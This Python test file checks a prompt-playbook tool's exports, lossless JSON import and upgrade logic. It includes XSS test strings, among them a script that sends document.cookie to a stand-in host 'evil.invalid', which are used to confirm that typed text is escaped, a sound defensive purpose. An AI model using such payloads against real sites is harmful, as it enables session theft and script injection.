"""Every export format, parsed back; the JSON imported back without losing anything; the upgrade plan."""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import pytest
import yaml
from typer.testing import CliRunner

from elicit.adapters import exports, store
from elicit.services import interviews, playbooks
from elicit.core.anatomy import ELEMENT_IDS
from elicit.core.assembly import MegaPrompt, PromptInput, assemble, to_json
from elicit.adapters.exports.chain import CHAIN_SCHEMA
from elicit.adapters.exports.cases import cases, decided_cases, evaluation_cases, limits
from elicit.adapters.exports.skill import skill_files, skill_name
from elicit.cli import app
from elicit.core.errors import AnswerError, InputFileError
from elicit.core.guides import get_guide
from elicit.core.interview import Interview, answer_all
from elicit.core.linting import NOT_NEEDED, lint_report, set_aside, upgrade_questions, uploaded_text
from elicit.core.probing.heuristic import HeuristicProber
from tests.conftest import DATA

HOSTILE = '<script>alert("x")</script> & <img src=x onerror=alert(1)> {{ var }} {% if %}'


def answers(guide_id: str = "crisis_management") -> dict:
    return yaml.safe_load((DATA / f"answers_{guide_id}.yaml").read_text(encoding="utf-8"))


def interviewed(guide_id: str = "crisis_management", extra: dict | None = None) -> Interview:
    interview = Interview(guide=get_guide(guide_id), expert="Dana <b>Okafor</b>", topic="recalls", id="abc123")
    return answer_all(interview, {**answers(guide_id), **(extra or {})}, HeuristicProber().probe,
                      follow_up_answer="When I see two reports on one batch within a day.")


@pytest.fixture(scope="module")
def prompt() -> MegaPrompt:
    """The crisis lead's prompt with its guide's named inputs taken off: these tests read the one `input` every
    export falls back to; named inputs have tests of their own."""
    built = assemble(interviewed(), version=2)
    built.inputs = []
    return built


@pytest.fixture(scope="module")
def hostile() -> tuple[MegaPrompt, Interview]:
    interview = interviewed(extra={"never_do": [HOSTILE, "Never guess a death toll."], "role": f"I am {HOSTILE}"})
    return assemble(interview), interview


def text(fmt: str, prompt: MegaPrompt) -> str:
    return exports.render(fmt, prompt).decode("utf-8")


# --- each format, parsed back -----------------------------------------------------------------------------


def test_markdown_and_text_are_the_assembly_renderings(prompt):
    assert text("md", prompt).startswith(f"# {prompt.metadata.title}") and "## Appendix" in text("md", prompt)
    assert "Appendix" not in text("txt", prompt)


@pytest.mark.parametrize(("fmt", "system", "turns"), [
    ("openai", lambda d: d["messages"][0]["content"], lambda d: d["messages"][1:]),
    ("responses", lambda d: d["instructions"], lambda d: [{"role": "user", "content": d["input"]}]),
    ("anthropic", lambda d: d["system"], lambda d: d["messages"]),
    ("langfuse", lambda d: d["prompt"][0]["content"], lambda d: d["prompt"][1:]),
], ids=["openai", "responses", "anthropic", "langfuse"])
def test_chat_shapes_are_the_prompt_then_the_users_turn_with_the_input(prompt, fmt, system, turns):
    data = json.loads(text(fmt, prompt))
    assert system(data).startswith(prompt.metadata.title.upper())
    assert turns(data) == [{"role": "user", "content": "<input>{{input}}</input>"}]


def test_a_guides_named_inputs_appear_once_in_a_chat_shape_in_the_users_turn():
    named = assemble(interviewed(), version=2)
    assert [i.name for i in named.inputs] == ["incident_report"]
    messages = json.loads(text("openai", named))["messages"]
    assert "{{incident_report}}" not in messages[0]["content"] and "<incident_report>" in messages[0]["content"]
    assert messages[1]["content"] == "<incident_report>{{incident_report}}</incident_report>"
    assert text("txt", named).count("{{incident_report}}") == 1


def test_named_inputs_each_get_their_tag_and_placeholder(prompt):
    named = prompt.model_copy(deep=True)
    named.inputs = [PromptInput(name="incident_report", description="the first report"),
                    PromptInput(name="regulator_letter", description="the regulator's letter, if any")]
    data = json.loads(text("openai", named))
    assert data["messages"][-1]["content"] == ("<incident_report>{{incident_report}}</incident_report>\n"
                                               "<regulator_letter>{{regulator_letter}}</regulator_letter>")
    assert data["variables"] == {"incident_report": "the first report",
                                 "regulator_letter": "the regulator's letter, if any"}


def test_dotprompt_has_front_matter_then_a_system_and_a_user_part(hostile):
    page = text("dotprompt", hostile[0])
    _, front, body = page.split("---\n", 2)
    assert yaml.safe_load(front)["input"]["schema"] == {
        "incident_report": "string, the first incident report, pasted as received"}
    system, user = body.split('{{role "user"}}')
    assert system.startswith('{{role "system"}}') and user.strip() == "<incident_report>{{incident_report}}</incident_report>"
    assert system.count("{{ var }}") == system.count("\\{{ var }}") > 0


@pytest.mark.parametrize("fmt", ["chain", "chain-yaml"])
def test_chain_has_one_prompt_per_step_each_taking_the_previous_output(prompt, fmt):
    data = yaml.safe_load(text(fmt, prompt)) if fmt == "chain-yaml" else json.loads(text(fmt, prompt))
    steps = sorted((s for s in prompt.section("process").statements if s.step), key=lambda s: s.step)
    assert data["schema"] == CHAIN_SCHEMA and [row["name"] for row in data["steps"]] == [s.text for s in steps]
    assert data["template_format"] == "f-string" and set(data["variables"]) == {"input", "previous_output"}
    assert "<input>{input}</input>" in data["steps"][0]["prompt"]
    assert all(row["prompt"].endswith("{previous_output}") for row in data["steps"][1:])
    assert data["steps"][-1]["output"] == "output"


@pytest.mark.parametrize(("style", "placeholder"), [
    ("langchain", "{input}"), ("jinja2", "{{ input }}"), ("mustache", "{{{input}}}"), ("n8n", "{{ $json.input }}"),
])
def test_chain_placeholder_styles(prompt, style, placeholder):
    data = json.loads(exports.render("chain", prompt, style=style))
    assert data["placeholder_style"] == style and placeholder in data["steps"][0]["prompt"]


def test_n8n_style_keeps_the_experts_braces_as_an_expression_of_braces(hostile):
    system = json.loads(exports.render("chain", hostile[0], style="n8n"))["steps"][0]["system"]
    assert "{{ '{' }}{{ '{' }} var {{ '}' }}{{ '}' }}" in system


def test_an_unknown_placeholder_style_names_the_known_ones(prompt):
    with pytest.raises(exports.UnknownFormatError, match="use one of langchain, jinja2, mustache, n8n"):
        exports.render("chain", prompt, style="handlebars")


def test_chain_json_and_yaml_say_the_same(prompt):
    assert json.loads(text("chain", prompt)) == yaml.safe_load(text("chain-yaml", prompt))


def test_promptfoo_tests_give_the_simulations_scenario_and_judge_the_experts_call(prompt):
    config = yaml.safe_load(text("promptfoo", prompt))
    assert set(config) >= {"description", "prompts", "providers", "tests", "defaultTest"}
    assert config["defaultTest"]["options"]["provider"] == config["providers"][0] == {"id": exports.DEFAULT_PROVIDER}
    messages = json.loads(config["prompts"][0]["raw"])
    assert messages[0]["role"] == "system" and messages[1]["content"] == "<input>{{input}}</input>"
    [simulation] = evaluation_cases(prompt)
    [test] = config["tests"]
    scenario = " ".join(get_guide("crisis_management").question("simulation").scenario.split())
    assert test["vars"]["input"] == simulation.situation == scenario
    assert simulation.decision in test["assert"][0]["value"] and test["assert"][0]["type"] == "llm-rubric"
    system = messages[0]["content"]
    assert simulation.decision not in system, "an evaluation case is also a worked example"
    main = decided_cases(prompt)[0]
    assert main.name == "main" and all(s.text in system for s in main.statements), \
        "a worked case left the prompt"


def test_promptfoo_asserts_only_the_never_do_limits(prompt):
    default = yaml.safe_load(text("promptfoo", prompt))["defaultTest"]
    asserted = [a["value"].split(": ", 1)[1] for a in default["assert"]]
    guardrails = prompt.section("guardrails").statements
    assert asserted == [s.text for s in limits(prompt)] == [s.text for s in guardrails if s.form == "limits"]
    assert len(asserted) == len(answers()["never_do"]) < len(guardrails)


def test_promptfoo_passes_what_people_typed_as_data_never_as_a_template(hostile):
    """The only templates in the config are the ones the export writes: `{{ name }}` of a variable; the expert's
    braces live in the variables' values, which Nunjucks inserts without rendering them."""
    config = yaml.safe_load(text("promptfoo", hostile[0]))
    system = json.loads(config["prompts"][0]["raw"])[0]["content"]
    rubrics = [a["value"] for a in config["defaultTest"]["assert"]]
    for text_ in [system] + rubrics:  # every `{` is the expression that prints it: nothing else can open
        assert not re.search(r"[{}]", re.sub(r"\{\{ '[{}]' \}\}", "", text_))
    assert "{{ '{' }}{{ '{' }}" in system
    assert "{{" not in config["description"] and "{{" not in config["prompts"][0]["label"]


def test_jsonl_is_refused_below_ten_decided_cases_saying_how_to_get_more(prompt):
    with pytest.raises(exports.TooFewExamplesError, match="at least 10 decided cases and this playbook has 2.*Try it"):
        exports.render("jsonl", prompt)


def test_jsonl_splits_each_case_into_situation_and_decision_and_takes_teach_back_corrections(prompt):
    corrections = [{"id": n, "scenario": f"Scenario {n}: a tabloid calls at 23:00.", "answer": "Wait.",
                    "wrong": "It waited.", "better": f"Call the duty lawyer first ({n})."} for n in range(8)]
    lines = text_with("jsonl", prompt, transcript={"questions": [], "teach_back": corrections}).splitlines()
    examples = [json.loads(line)["messages"] for line in lines]
    assert len(examples) == 10 and all([m["role"] for m in e] == ["system", "user", "assistant"] for e in examples)
    assert all(e[1]["content"] != e[2]["content"] and e[2]["content"] not in e[1]["content"] for e in examples)
    main, simulation = decided_cases(prompt)
    assert examples[0][1]["content"] == f"<input>{main.situation}</input>" and main.what_if in examples[0][2]["content"]
    assert examples[1][2]["content"] == simulation.decision and simulation.decision not in examples[1][0]["content"]
    assert examples[2][1]["content"] == f"<input>{corrections[0]['scenario']}</input>"
    assert examples[2][2]["content"] == "Call the duty lawyer first (0). Not this: It waited."


def text_with(fmt: str, prompt: MegaPrompt, transcript: dict) -> str:
    return exports.render(fmt, prompt, transcript).decode("utf-8")


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.data = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.data.append(data)


def test_html_is_a_readable_playbook_with_print_styles_and_provenance(prompt):
    page = text("html", prompt)
    parser = _Collect()
    parser.feed(page)
    assert {"html", "h1", "section", "table", "ol"} <= set(parser.tags)
    assert "@media print" in page and "Prompt version" in page
    said = "".join(parser.data)
    assert all((s.criterion.name if s.criterion else s.text) in said for s in prompt.statements())
    assert all(s.source.label() in said for s in prompt.statements())


def test_html_renders_each_worked_case_whole_and_apart_with_the_simulations_scenario(prompt):
    parser = _Collect()
    parser.feed(text("html", prompt))
    said = "\n".join(parser.data)
    headings = [h for h in ("Case: main", "Case: contrast", "Simulation") if h in said]
    assert headings == ["Case: main", "Case: contrast", "Simulation"]
    main, contrast = said.index("Case: main"), said.index("Case: contrast")
    contrast_text = prompt.section("examples").statements[6].text
    assert contrast_text.startswith("In October 2017") and main < contrast < said.index(contrast_text)
    scenario = " ".join(get_guide("crisis_management").question("simulation").scenario.split())
    assert said.index("Simulation") < said.index(scenario)


def _system_of(fmt: str, prompt: MegaPrompt) -> str:
    """The instructions a model gets from the export: the HTML's text, a chain step's system, the JSONL's system."""
    if fmt == "html":
        parser = _Collect()
        parser.feed(text("html", prompt))
        return "".join(parser.data)
    if fmt == "chain":
        return json.loads(text("chain", prompt))["steps"][0]["system"]
    if fmt == "promptfoo":
        return json.loads(yaml.safe_load(text("promptfoo", prompt))["prompts"][0]["raw"])[0]["content"]
    corrections = [{"id": n, "scenario": f"Case {n}", "better": "Wait."} for n in range(8)]
    return json.loads(text_with("jsonl", prompt, {"questions": [], "teach_back": corrections}).splitlines()[0])[
        "messages"][0]["content"]


@pytest.mark.parametrize("fmt", ["html", "chain", "jsonl", "promptfoo"])
def test_every_export_carries_the_task_line_the_inputs_and_the_unknowns(fmt):
    named = assemble(interviewed(), version=2)
    system = _system_of(fmt, named)
    assert named.task and named.unknowns
    assert named.task in system and "<incident_report>" in system and "first incident report" in system
    assert "Unknowns" in system.title() and all(u.text in system for u in named.unknowns)


def test_cases_are_grouped_by_case_name_each_part_where_its_question_declares(prompt):
    by_name = {case.name: case for case in cases(prompt)}
    assert list(by_name) == ["main", "contrast", "simulation"]
    given = answers()
    main, contrast, simulation = by_name.values()
    assert main.situation == " ".join(given["case_timeline"].split())
    assert main.decision.startswith("The hard call was") and main.what_if.startswith("If the inspection log")
    assert main.question_ids[:2] == ["case_timeline", "case_decision_point"] and not main.evaluation
    assert contrast.situation.startswith("In October 2017") and not contrast.decided
    assert simulation.evaluation and simulation.decision.startswith("Level 2 until we know how he is")
    assert [c.name for c in decided_cases(prompt)] == ["main", "simulation"]


def test_a_version_1_playbooks_cases_are_split_where_the_experts_decision_falls(prompt):
    old = prompt.model_copy(deep=True)
    for statement in old.section("examples").statements:
        statement.form, statement.part, statement.lead_in = "prose", "", ""
    old.section("examples").statements = [s for s in old.section("examples").statements
                                          if s.source.question_id == "case_decision_point"]
    [case] = cases(old)
    assert case.situation.startswith("The hard call was") and case.decision.startswith("I chose the public recall")


@pytest.mark.parametrize(("item", "rule"), [
    ("Never guess a death toll.", "Never guess a death toll."),
    ("Guessing a death toll.", "Whatever the pressure, never advise any of these: Guessing a death toll."),
], ids=["a-never-rule", "an-item-under-the-lead-in"])
def test_a_limit_keeps_the_lead_in_that_makes_it_a_rule(item, rule):
    from elicit.adapters.exports.promptfoo import limit_rule

    assert limit_rule(item, "Whatever the pressure, never advise any of these:") == rule


def test_html_escapes_everything_people_typed(hostile):
    page = text("html", hostile[0])
    parser = _Collect()
    parser.feed(page)
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert "&lt;script&gt;" in page and HOSTILE in "".join(parser.data)


def test_bundle_holds_every_format_the_skill_the_transcript_and_a_manifest(hostile):
    prompt, interview = hostile
    archive = zipfile.ZipFile(io.BytesIO(exports.render("bundle", prompt, exports.transcript(interview))))
    names = set(archive.namelist())
    skill = f"skill/{skill_name(prompt)}/"
    assert names == {"prompt.md", "prompt.txt", "prompt-short.txt", "prompt.json", "openai.json", "responses.json", "anthropic.json",
                     "langfuse.json", "playbook.prompt", "chain.json", "chain.yaml", "promptfooconfig.yaml",
                     "playbook.html", "transcript.json", "transcript.md", "MANIFEST.json", f"{skill}SKILL.md",
                     f"{skill}references/criteria.md", f"{skill}references/cases.md",
                     f"{skill}references/open-questions.md", f"{skill}assets/holding-statement.md"}
    assert MegaPrompt.model_validate_json(archive.read("prompt.json")) == prompt
    data = json.loads(archive.read("transcript.json"))
    asked = {q["id"]: q for q in data["questions"]}
    assert set(asked) == {q.id for q in interview.guide.questions}
    assert sum(len(q["follow_ups"]) for q in data["questions"]) == len(interview.follow_ups) > 0
    assert asked["never_do"]["revisions"][0]["value"][0] == HOSTILE
    manifest = json.loads(archive.read("MANIFEST.json"))
    listed = {f["path"]: f for f in manifest["files"]}
    assert set(listed) == names - {"MANIFEST.json"}
    assert all(hashlib.sha256(archive.read(p)).hexdigest() == f["sha256"] for p, f in listed.items())
    assert [f["path"] for f in manifest["left_out"]] == ["finetune.jsonl"] and "at least 10" in manifest["left_out"][0]["reason"]


@pytest.mark.parametrize("fmt", ["bundle", "skill"])
def test_zipped_files_are_readable_by_everyone_who_unpacks_them(prompt, fmt, tmp_path):
    archive = zipfile.ZipFile(io.BytesIO(exports.render(fmt, prompt)))
    assert {(info.external_attr >> 16) & 0o777 for info in archive.infolist()} == {0o644}
    archive.extractall(tmp_path)
    assert all(path.stat().st_mode & 0o044 == 0o044 for path in tmp_path.rglob("*") if path.is_file())


def test_transcript_keeps_every_revision():
    interview = interviewed()
    interview.answer("role", "I ran crisis response for a retailer for ten years.")
    revisions = {q["id"]: q["revisions"] for q in exports.transcript(interview)["questions"]}["role"]
    assert [r["revision"] for r in revisions] == [1, 2] and revisions[0]["text"] != revisions[1]["text"]


def test_an_unknown_format_names_the_known_ones(prompt):
    with pytest.raises(exports.UnknownFormatError, match="use one of md, txt, txt-short, json"):
        exports.render("pdf", prompt)


# --- import, lossless ----------------------------------------------------------------------------------------


def test_json_round_trip_loses_nothing(hostile):
    prompt = hostile[0]
    back = playbooks.parse_playbook(to_json(prompt))
    assert back == prompt and back.model_dump() == prompt.model_dump()
    assert [s.source for s in back.statements()] == [s.source for s in prompt.statements()]
    assert to_json(back) == to_json(prompt)


@pytest.mark.parametrize(("mutate", "message"), [
    (lambda d: "not json", "not JSON"),
    (lambda d: {**d, "metadata": {**d["metadata"], "schema_version": "9"}}, "schema version '9'"),
    (lambda d: {**d, "sections": "none"}, "sections"),
    (lambda d: {**d, "colour": "blue"}, "fields this version does not know: colour"),
], ids=["not-json", "newer-schema", "invalid", "unknown-field"])
def test_a_playbook_that_cannot_be_read_whole_is_refused(prompt, mutate, message):
    data = mutate(json.loads(to_json(prompt)))
    with pytest.raises(InputFileError, match=message):
        playbooks.parse_playbook(data if isinstance(data, str) else json.dumps(data))


def elicit(*args: str):
    return CliRunner().invoke(app, list(args))


def test_cli_export_import_export_is_lossless(tmp_path, hostile):
    engine = store.open_database()
    with store.session(engine) as db:
        interview, _token = interviews.start_interview(db=db, guide=get_guide("crisis_management"), expert="Dana",
                                                     topic="recalls")
        for question_id, value in list(answers().items())[:6]:
            interviews.submit_answer(db=db, interview=interview, question_id=question_id, raw=value,
                                   prober=HeuristicProber())
        interviews.finish(db=db, interview=interview)
    engine.dispose()
    first = tmp_path / "first.json"
    assert elicit("export", interview.id, "--format", "json", "--out", str(first)).exit_code == 0
    imported = elicit("import", str(first), "--json")
    assert imported.exit_code == 0, imported.output
    new_id = json.loads(imported.stdout)["interview_id"]
    again = elicit("export", new_id, "--format", "json")
    assert new_id != interview.id and again.stdout == first.read_text(encoding="utf-8")
    assert json.loads(again.stdout) == json.loads(first.read_text(encoding="utf-8"))


PARSE_BACK = {
    "md": lambda data: data.decode().split("\n")[0],
    "txt": lambda data: data.decode().split("\n")[0],
    "txt-short": lambda data: data.decode().split("\n")[0],
    "json": lambda data: MegaPrompt.model_validate_json(data).metadata.title,
    "openai": lambda data: json.loads(data)["messages"][0]["content"].split("\n")[0],
    "chain": lambda data: json.loads(data)["title"],
    "promptfoo": lambda data: yaml.safe_load(data)["prompts"][0]["label"],
    "html": lambda data: data.decode().split("<h1>")[1].split("</h1>")[0],
    "responses": lambda data: json.loads(data)["instructions"].split("\n")[0],
    "anthropic": lambda data: json.loads(data)["system"].split("\n")[0],
    "langfuse": lambda data: json.loads(data)["prompt"][0]["content"].split("\n")[0],
    "dotprompt": lambda data: yaml.safe_load(data.decode().split("---\n")[1])["metadata"]["title"],
    "skill": lambda data: yaml.safe_load(zipfile.ZipFile(io.BytesIO(data)).read(
        "any-expertise-triage/SKILL.md").decode().split("---\n")[1])["name"].replace("-", " ").replace(" t", ": t"),
    "bundle": lambda data: zipfile.ZipFile(io.BytesIO(data)).read("prompt.json") and "",
}


@pytest.mark.parametrize("fmt", list(exports.FORMATS))
def test_cli_exports_every_format_of_a_draft(tmp_path, fmt):
    engine = store.open_database()
    with store.session(engine) as db:
        interview, _ = interviews.start_interview(db=db, guide=get_guide("general"), expert="Sam", topic="triage")
        interviews.submit_answer(db=db, interview=interview, question_id="role", raw=answers("general")["role"],
                               prober=HeuristicProber())
    engine.dispose()
    out = tmp_path / f"x.{exports.FORMATS[fmt].extension}"
    result = elicit("export", interview.id, "--format", fmt, "--out", str(out))
    if fmt == "jsonl":  # a draft has no decided case: refused, saying how to get some
        assert result.exit_code == 1 and "at least 10 decided cases" in result.stderr and not out.exists()
        return
    assert result.exit_code == 0, result.output
    assert PARSE_BACK[fmt](out.read_bytes()).lower().lstrip("# ") in "any expertise: triage"


def test_cli_export_writes_to_stdout_and_a_bundle_to_a_file_named_after_the_title(tmp_path, monkeypatch, prompt):
    engine = store.open_database()
    with store.session(engine) as db:
        interview, _ = interviews.start_interview(db=db, guide=get_guide("general"), expert="Sam", topic="triage")
    engine.dispose()
    assert elicit("export", interview.id, "--format", "txt").stdout.startswith("ANY EXPERTISE: TRIAGE")
    monkeypatch.chdir(tmp_path)
    assert elicit("export", interview.id, "--format", "bundle").exit_code == 0
    assert [p.name for p in tmp_path.glob("*.zip")] == ["any-expertise-triage-draft.zip"]


@pytest.mark.parametrize(("args", "message"), [
    (("export", "nope"), "no interview has the id 'nope'"),
    (("export", "nope", "--format", "pdf"), "--format 'pdf' is not known"),
    (("import", "missing.json"), "no such file"),
], ids=["unknown-id", "unknown-format", "missing-file"])
def test_cli_errors_are_one_clear_line(args, message):
    result = elicit(*args)
    assert result.exit_code == 1 and message in result.stderr and "Traceback" not in result.output


def test_cli_import_check_stores_nothing(tmp_path, prompt):
    path = tmp_path / "p.json"
    path.write_text(to_json(prompt), encoding="utf-8")
    result = elicit("import", str(path), "--check", "--json")
    assert result.exit_code == 0 and json.loads(result.stdout)["interview_id"] is None
    assert json.loads(elicit("interview", "list", "--json").stdout) == []


# --- lint and upgrade -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("missing", "asked", "not_asked"), [
    (["examples"], {"case_timeline", "case_decision_point", "holding_statement"}, {"role", "never_do"}),
    (["persona"], {"role"}, {"priorities", "case_timeline"}),
    (["decision_criteria"], {"recall_line", "situations"}, {"role", "never_do"}),
], ids=["examples", "persona", "a-conditional-question-keeps-its-choice"])
def test_upgrade_asks_only_the_questions_feeding_what_is_missing(missing, asked, not_asked):
    guide = get_guide("crisis_management")
    ids = {q.id for q in upgrade_questions(guide, missing)}
    assert asked <= ids and not (not_asked & ids)
    assert set(set_aside(guide, missing)) == {q.id for q in guide.questions} - ids


def test_an_upgrade_interview_starts_at_the_first_missing_question_with_nothing_open():
    engine = store.open_database()
    guide = get_guide("crisis_management")
    with store.session(engine) as db:
        interview, token = playbooks.start_upgrade(db=db, guide=guide, expert="Dana", topic="recalls",
                                                   missing=["clarifying_questions", "examples"])
        again = interviews.load_by_token(db=db, token=token)
    engine.dispose()
    assert again.next_item().id == "case_timeline"
    assert again.answers["role"].skipped and again.answers["role"].text == NOT_NEEDED
    assert again.open_questions() == []


def test_upgrade_with_nothing_missing_is_refused():
    engine = store.open_database()
    with store.session(engine) as db, pytest.raises(AnswerError, match="nothing to upgrade"):
        playbooks.start_upgrade(db=db, guide=get_guide("general"), expert="a", topic="b", missing=[])
    engine.dispose()


def test_lint_report_has_every_element(prompt):
    report = lint_report(text("txt", prompt))
    assert list(report["elements"]) == list(ELEMENT_IDS) and report["score"] >= 80


@pytest.mark.parametrize(("data", "result"), [
    (b"\xef\xbb\xbfYou are a lawyer.", "You are a lawyer."),
    (b"\xff\xfe\x00bad", InputFileError),
    (b"x" * (3 * 1024 * 1024), InputFileError),
], ids=["utf8-bom", "not-utf8", "too-big"])
def test_uploaded_prompt_text(data, result):
    if result is InputFileError:
        with pytest.raises(InputFileError):
            uploaded_text(data, "p.txt")
    else:
        assert uploaded_text(data, "p.txt") == result


# --- what people typed never runs or loads in a renderer (issue 17, item 7) ----------------------------------

ATTACK = ('<script>fetch("http://evil.invalid/?c="+document.cookie)</script> <img src=x onerror=alert(1)> '
          '![logo](http://tracker.invalid/p.png?who=dana) ![ref][t] <a href="javascript:alert(1)">x</a>\n\n'
          '[t]: http://tracker.invalid/ref.png')


def wiki_html(markdown: str) -> list[tuple[str, dict]]:
    """The tags a wiki's Markdown renderer (CommonMark with raw HTML on, GFM tables) makes of the text."""
    from markdown_it import MarkdownIt

    parser = _Tags()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    return parser.found


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def attacked() -> tuple[MegaPrompt, Interview]:
    interview = interviewed(extra={"never_do": [ATTACK, "Never guess a death toll."], "role": f"I am {ATTACK}",
                                   "case_timeline": f"In June 2018 a retailer called. {ATTACK}"})
    return assemble(interview), interview


def _rendered_texts(prompt: MegaPrompt, interview: Interview) -> dict[str, str]:
    bundle = zipfile.ZipFile(io.BytesIO(exports.render("bundle", prompt, exports.transcript(interview))))
    texts = {name: bundle.read(name).decode() for name in bundle.namelist() if name.endswith((".md", ".txt"))}
    texts["dotprompt"] = text("dotprompt", prompt)
    texts["openai system"] = json.loads(text("openai", prompt))["messages"][0]["content"]
    return texts


def test_no_text_export_carries_live_html_or_images(attacked):
    texts = _rendered_texts(*attacked)
    assert {"prompt.md", "prompt.txt", "transcript.md"} <= set(texts) and any("SKILL.md" in n for n in texts)
    for name, markdown in texts.items():
        tags = wiki_html(markdown)
        assert not [t for t, _ in tags if t in ("script", "img", "iframe", "style")], name
        assert not [a for t, a in tags if t == "a" and a["href"].startswith("javascript:")], f"{name}: a script link"
    for name in ("prompt.md", "prompt.txt", "transcript.md", "dotprompt", "openai system"):
        assert "http://tracker.invalid/p.png" in texts[name], f"{name}: the expert's words are gone"


def test_the_json_keeps_what_was_typed_exactly(attacked):
    back = MegaPrompt.model_validate_json(text("json", attacked[0]))
    assert back == attacked[0] and any(ATTACK.split("\n")[0] in s.text for s in back.statements())


# --- smaller: print, length, the transcript in the JSON, templates as the skill's assets -----------------------


def test_html_prints_on_a4_and_lets_sections_break_across_pages(prompt):
    page = text("html", prompt)
    assert "@page { size: A4;" in page and "page-break-before: always" not in page
    assert "section { break-inside: auto;" in page


@pytest.mark.parametrize(("limit", "noted"), [(100, True), (1_000_000, False)], ids=["over", "under"])
def test_cli_notes_when_the_plain_text_is_over_the_instructions_limit(monkeypatch, limit, noted):
    monkeypatch.setenv("ELICIT_MAX_INSTRUCTIONS_CHARS", str(limit))
    engine = store.open_database()
    with store.session(engine) as db:
        interview, _ = interviews.start_interview(db=db, guide=get_guide("general"), expert="Sam", topic="triage")
        interviews.submit_answer(db=db, interview=interview, question_id="role", raw=answers("general")["role"],
                               prober=HeuristicProber())
    engine.dispose()
    result = elicit("export", interview.id, "--format", "txt")
    assert result.exit_code == 0 and ("custom assistant's instructions" in result.stderr) is noted
    assert result.stdout.startswith("ANY EXPERTISE: TRIAGE")


def test_cli_json_with_the_transcript_round_trips_with_it(tmp_path):
    engine = store.open_database()
    with store.session(engine) as db:
        interview, _ = interviews.start_interview(db=db, guide=get_guide("general"), expert="Sam", topic="triage")
        interviews.submit_answer(db=db, interview=interview, question_id="role", raw=answers("general")["role"],
                               prober=HeuristicProber())
        interviews.finish(db=db, interview=interview)
    engine.dispose()
    first = tmp_path / "first.json"
    assert elicit("export", interview.id, "--format", "json", "--transcript", "--out", str(first)).exit_code == 0
    data = json.loads(first.read_text(encoding="utf-8"))
    assert data["transcript"]["questions"][0]["revisions"][0]["text"] == answers("general")["role"].strip()
    new_id = json.loads(elicit("import", str(first), "--json").stdout)["interview_id"]
    again = elicit("export", new_id, "--format", "json", "--transcript")
    assert json.loads(again.stdout) == data
    assert "transcript" not in json.loads(elicit("export", new_id, "--format", "json").stdout)


def test_the_experts_templates_are_the_skills_assets():
    prompt = assemble(interviewed("general"), version=1)
    files = skill_files(prompt)
    template = next(s.text for s in prompt.section("examples").statements if s.source.question_id ==
                    "deliverable_template")
    assert files["assets/deliverable-template.md"].strip() == template
    assert "[assets/deliverable-template.md](assets/deliverable-template.md)" in files["SKILL.md"]
    assert template not in files["SKILL.md"] and template not in files["references/cases.md"]


@pytest.mark.parametrize("typed", [
    "<script>alert(1)</script>", "\\\\<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "![t](http://tracker.invalid/p.png)", "\\\\![t](http://tracker.invalid/p.png)", "<!-- x --><iframe src=x>",
    "&lt;script&gt;", "<https://tracker.invalid/>",
], ids=["script", "backslashes-before-a-tag", "img", "image", "backslashes-before-an-image", "comment-iframe",
        "entities", "autolink"])
def test_typed_text_renders_as_typed_and_never_live(typed):
    from markdown_it import MarkdownIt

    from elicit.adapters.exports.safety import neutral

    safe = neutral(typed)
    assert neutral(safe) == safe
    assert not [t for t, _ in wiki_html(safe) if t in ("script", "img", "iframe")]
    rendered = MarkdownIt("commonmark", {"html": True}).render(safe)
    assert "<script" not in rendered and "<img" not in rendered and "<iframe" not in rendered


def test_promptfoo_tests_the_experts_teach_back_corrections_too(prompt):
    corrections = [{"id": 7, "scenario": "A tabloid calls at 23:00 about {{ batch }}.", "answer": "Wait.",
                    "wrong": "", "better": "Call the duty lawyer, then give a holding line by 23:30."}]
    config = yaml.safe_load(text_with("promptfoo", prompt, transcript={"questions": [], "teach_back": corrections}))
    added = config["tests"][-1]
    assert len(config["tests"]) == len(evaluation_cases(prompt)) + 1
    assert added["vars"]["input"] == "A tabloid calls at 23:00 about { { batch }}."  # openers broken: promptfoo renders variables
    assert added["assert"][0]["value"].endswith("Call the duty lawyer, then give a holding line by 23:30.")
